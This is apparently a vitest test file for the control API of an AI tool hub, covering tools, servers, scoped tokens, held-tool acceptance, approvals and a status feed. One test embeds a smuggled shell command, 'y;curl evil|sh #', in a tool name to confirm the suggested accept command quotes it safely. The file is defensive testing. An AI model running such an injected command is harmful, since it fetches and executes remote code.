import { describe, expect, it } from 'vitest';
import { NO_CLIENT } from '../../../../test/kit/control.ts';
import { defineTool, offerOf } from '../../../../test/kit/offer.ts';
import type { Scopes } from '../core/caller.ts';
import { createCatalog } from '../core/catalog/catalog.ts';
import { PincerError } from '../core/errors.ts';
import type { HeldTool } from '../core/trust/trust.ts';
import { createControlActions, createStatusFeed } from './actions.ts';
import type { ReloadReport } from './contract/servers.ts';
import type { HubStatus } from './contract/status.ts';

const TOOL = { name: 'größe', inputSchema: { type: 'object' } };

function bench(problem?: PincerError, held: HeldTool[] = []) {
  const recorded: unknown[] = [];
  const catalog = createCatalog((text) => Buffer.from(text).toString('hex').padEnd(32, '0'));
  catalog.configure([
    { name: 'a', prefix: 'a' },
    { name: 'silent', prefix: 'silent' },
  ]);
  catalog.put('a', offerOf({ tools: [defineTool(TOOL)] }));
  const actions = createControlActions({
    catalog,
    book: {
      add: (name: string, scopes: Scopes) => {
        recorded.push(['add', name, scopes]);
        return { name, token: 't' };
      },
      ensure: (name) => {
        recorded.push(['ensure', name]);
        return { token: 't', isNew: true };
      },
      list: () => [],
      revoke: (name) => void recorded.push(['revoke', name]),
      find: (name) => (name === 'openclaw:a' ? { id: 'c', name, scopes: { servers: ['a'] } } : undefined),
    },
    whenKnown: (server) => {
      recorded.push(['whenKnown', server]);
      return undefined;
    },
    problemOf: () => problem,
    approvals: {
      list: () => [],
      decide: (id, decision) => {
        recorded.push(['decide', id, decision]);
        throw new PincerError('ARGUMENT_INVALID', 'There is none.');
      },
      withdraw: (id) => void recorded.push(['withdraw', id]),
    },
    allowAlways: (approval) => void recorded.push(['allowAlways', approval]),
    async askAhead(call, maxBytes) {
      recorded.push(['askAhead', call, maxBytes]);
      return { decision: 'deny', reason: new PincerError('POLICY_DENIED', 'No.', { hint: 'Change it.' }) };
    },
    signIns: {
      begin: () => Promise.reject(new Error('not here')),
      cancel: () => undefined,
      complete: () => Promise.reject(new Error('not here')),
      signOut: () => Promise.reject(new Error('not here')),
    },
    forgetCaller: async (id) => void recorded.push(['forget', id]),
    held: () => held,
    accept: (server, tool, seen) => {
      recorded.push(['accept', server, tool, seen]);
      return [];
    },
    reload: () => ({}) as ReloadReport,
    check: () => ({ problems: [] }),
    refresh: async () => undefined,
    describe: async () => ({ version: '1' }) as HubStatus,
    async addServer(name, config) {
      recorded.push(['addServer', name, config]);
    },
    now: () => 1_000,
    disconnect: (name) => void recorded.push(['disconnect', name]),
    stop: () => void recorded.push(['stop']),
  });
  const run = async (route: string, query: Record<string, string> = {}, body?: unknown): Promise<unknown> => {
    return actions[route as 'GET status']({
      query: new URLSearchParams(query),
      body,
      ...NO_CLIENT,
    });
  };
  return { recorded, run };
}

const codeOf = async (action: Promise<unknown>): Promise<string> =>
  action.then(
    () => 'no error',
    (error: unknown) => PincerError.from(error).code,
  );

describe('tools', () => {
  const described = {
    server: 'a',
    name: 'größe',
    exposed: expect.stringMatching(/^a__gr__e_/),
    definition: TOOL,
  };

  it('are listed for all servers or one', async () => {
    const { recorded, run } = bench();
    expect(await run('GET tools')).toEqual([described]);
    expect(await run('GET tools', { server: 'a' })).toEqual([described]);
    expect(recorded).toEqual([
      ['whenKnown', undefined],
      ['whenKnown', 'a'],
    ]);
  });

  it('are found one by one', async () => {
    expect(await bench().run('GET tool', { server: 'a', name: 'größe' })).toEqual(described);
  });

  it('are refused with a code if the server or the tool is unknown', async () => {
    const { run } = bench();
    expect(await codeOf(run('GET tools', { server: 'x' }))).toBe('SERVER_UNKNOWN');
    expect(await codeOf(run('GET tools', { server: '__proto__' }))).toBe('SERVER_UNKNOWN');
    expect(await codeOf(run('GET tool', { name: 'y' }))).toBe('SERVER_UNKNOWN');
    await expect(run('GET tool', { server: 'a', name: 'y' })).rejects.toMatchObject({
      code: 'TOOL_UNKNOWN',
      data: { known: ['größe'] },
    });
  });
});

describe('a server that never connected', () => {
  it('is reported with its problem instead of tools', async () => {
    const { run } = bench(new PincerError('SERVER_GONE', 'It exited.', { hint: 'Its last words: x' }));
    for (const action of ['GET tools', 'GET tool'])
      await expect(run(action, { server: 'silent', name: 'x' })).rejects.toMatchObject({
        code: 'SERVER_UNREACHABLE',
        message: 'It exited.',
        hint: 'Its last words: x',
      });
    expect(await run('GET tools', { server: 'a' })).toHaveLength(1);
  });

  it('has no tools if it has no problem', async () => {
    expect(await bench().run('GET tools', { server: 'silent' })).toEqual([]);
  });
});

describe('servers', () => {
  it('are added by name and configuration', async () => {
    const { recorded, run } = bench();
    await run('POST servers', {}, { name: 'a', config: { command: 'x' } });
    expect(recorded).toEqual([['addServer', 'a', { command: 'x' }]]);
  });

  it.each([undefined, null, [], {}, { name: 1 }, { name: 'a', config: {}, more: 1 }])(
    'are not added by %j',
    async (body) => {
      const { recorded, run } = bench();
      expect(await codeOf(run('POST servers', {}, body))).toBe('USAGE');
      expect(recorded).toEqual([]);
    },
  );
});

describe('tokens', () => {
  it('are created with their scopes and revoked by name', async () => {
    const { recorded, run } = bench();
    expect(await run('POST tokens', {}, { name: 'n', servers: ['a'], readOnly: true })).toEqual({
      name: 'n',
      token: 't',
    });
    await run('DELETE tokens', { name: 'n' });
    expect(recorded).toEqual([
      ['add', 'n', { servers: ['a'], readOnly: true }],
      ['revoke', 'n'],
    ]);
    expect(await run('GET tokens')).toEqual([]);
    await run('DELETE tokens', { name: 'openclaw:a' });
    expect(recorded.slice(-2)).toEqual([
      ['revoke', 'openclaw:a'],
      ['forget', 'c'],
    ]);
  });

  it.each([
    undefined,
    {},
    { name: '' },
    { name: 'x'.repeat(65) },
    { name: 'n', servers: 'a' },
    { name: 'n', readOnly: 'yes' },
    { name: 'n', tools: [1] },
    { name: 'n', scope: {} },
  ])('are not created from %j, so that no unknown field can widen a token', async (body) => {
    const { recorded, run } = bench();
    expect(await codeOf(run('POST tokens', {}, body))).toBe('USAGE');
    expect(recorded).toEqual([]);
  });
});

it('the hub describes itself and stops', async () => {
  const { recorded, run } = bench();
  expect(await run('GET status')).toEqual({ revision: 1_001, version: '1', held: [], approvals: 0 });
  await run('POST stop');
  expect(recorded).toEqual([['stop']]);
});

describe('held tools', () => {
  const offered = JSON.stringify({ name: 'y', description: 'new', inputSchema: {} });
  const accepted = JSON.stringify({ name: 'y', description: 'old', inputSchema: {} });
  const held: HeldTool[] = [{ server: 'a', tool: 'y', why: 'changed', accepted, offered, digest: 'd' }];

  it('are listed with their changes', async () => {
    const { run } = bench(undefined, held);
    expect(await run('GET held')).toMatchObject([
      { server: 'a', tool: 'y', why: 'changed', digest: 'd', changes: [{ path: 'description' }] },
    ]);
    await expect(run('GET tool', { server: 'a', name: 'y' })).rejects.toMatchObject({
      code: 'TOOL_WITHDRAWN',
    });
    expect(await codeOf(run('GET held', { server: 'x' }))).toBe('SERVER_UNKNOWN');
  });

  it('are quoted in the accept command', async () => {
    const tool = 'y;curl evil|sh #';
    const { run } = bench(undefined, [{ ...held[0]!, tool }]);
    await expect(run('GET tool', { server: 'a', name: tool })).rejects.toMatchObject({
      hint: "Review and accept it: pincer accept 'a.y;curl evil|sh #'",
    });
  });

  it('are accepted by the digest that was seen', async () => {
    const { recorded, run } = bench(undefined, held);
    expect(await run('POST accept', {}, { server: 'a', tool: 'y', seen: ['d'] })).toEqual({ accepted: [] });
    expect(recorded).toEqual([['accept', 'a', 'y', new Set(['d'])]]);
    expect(await codeOf(run('POST accept', {}, { server: 'a' }))).toBe('USAGE');
  });
});

describe('approvals', () => {
  it('are decided by id', async () => {
    const { recorded, run } = bench();
    expect(await run('GET approvals')).toEqual([]);
    expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'allowed' }))).toBe(
      'ARGUMENT_INVALID',
    );
    expect(recorded).toEqual([['decide', 'x', 'allowed']]);
    expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'maybe' }))).toBe('USAGE');
    expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'denied', always: true }))).toBe(
      'USAGE',
    );
  });

  it('are withdrawn by id', async () => {
    const { recorded, run } = bench();
    await run('DELETE approvals', { id: 'x' });
    expect(recorded).toEqual([['withdraw', 'x']]);
  });

  it('can be requested before a call, for the credential of that call', async () => {
    const { recorded, run } = bench();
    const params = { name: 'größe', arguments: { n: 1 } };
    expect(await run('POST approvals/ask', {}, { server: 'a', by: 'openclaw:a', params, room: 300 })).toEqual(
      {
        decision: 'deny',
        code: 'POLICY_DENIED',
        message: 'No.',
        hint: 'Change it.',
      },
    );
    const raw = (text: string): string => Buffer.from(text).toString('latin1');
    expect(recorded).toEqual([
      [
        'askAhead',
        {
          caller: { id: 'c', name: 'openclaw:a', scopes: { servers: ['a'] } },
          view: 'a',
          method: 'tools/call',
          params: [
            { key: 'name', raw: raw('"größe"') },
            { key: 'arguments', raw: '{"n":1}' },
          ],
        },
        300,
      ],
    ]);
  });

  it.each([
    { server: 'a', by: 'unknown', params: {} },
    { server: 'a', by: 'openclaw:a', params: [] },
    { server: 'a', by: 'openclaw:a', params: {}, method: 'completion/complete' },
    { server: 'a', by: 'openclaw:a', params: {}, decision: 'allowed' },
    { by: 'openclaw:a', params: {} },
  ])('are not requested by %j', async (body) => {
    const { recorded, run } = bench();
    expect(await codeOf(run('POST approvals/ask', {}, body))).toBe('USAGE');
    expect(recorded).toEqual([]);
  });
});

describe('the offer of a server', () => {
  it('is reported from the cache and by a probe', async () => {
    const { run } = bench();
    expect(await run('GET offer', { server: 'a' })).toMatchObject({
      name: 'a',
      isKnown: true,
      tools: ['größe'],
    });
    expect(await run('GET offer', { server: 'silent' })).toMatchObject({ isKnown: false, tools: [] });
    expect(await run('POST probe', {}, { name: 'a' })).toMatchObject({ name: 'a', tools: ['größe'] });
  });
});

function feedBench() {
  const status = { servers: [{ name: 'a', state: 'ready', inFlight: 0 }] };
  const feed = createStatusFeed(
    async () => structuredClone(status),
    () => performance.now(),
  );
  return { server: status.servers[0]!, feed };
}

describe('createStatusFeed', () => {
  it('answers at once if the client knows no revision, or an older one', async () => {
    const { feed } = feedBench();
    const first = (await feed.next(undefined, 60_000)) as { revision: number };
    expect(first).toMatchObject({ servers: [{ name: 'a', state: 'ready' }] });
    expect(await feed.next(first.revision - 1, 60_000)).toEqual(first);
  });

  it('waits for a change', async () => {
    const { feed, server } = feedBench();
    const first = (await feed.next(undefined, 0)) as { revision: number };
    const next = feed.next(first.revision, 60_000);
    server.state = 'backoff';
    expect(await next).toMatchObject({ revision: first.revision + 1, servers: [{ state: 'backoff' }] });
  });

  it('does not wait longer than requested', async () => {
    const { feed } = feedBench();
    const first = (await feed.next(undefined, 0)) as { revision: number };
    expect(await feed.next(first.revision, 150)).toEqual(first);
  });

  it('does not count running calls as a change', async () => {
    const { feed, server } = feedBench();
    const first = (await feed.next(undefined, 0)) as { revision: number };
    server.inFlight = 1;
    expect(await feed.next(first.revision, 0)).toMatchObject({ revision: first.revision });
  });
});
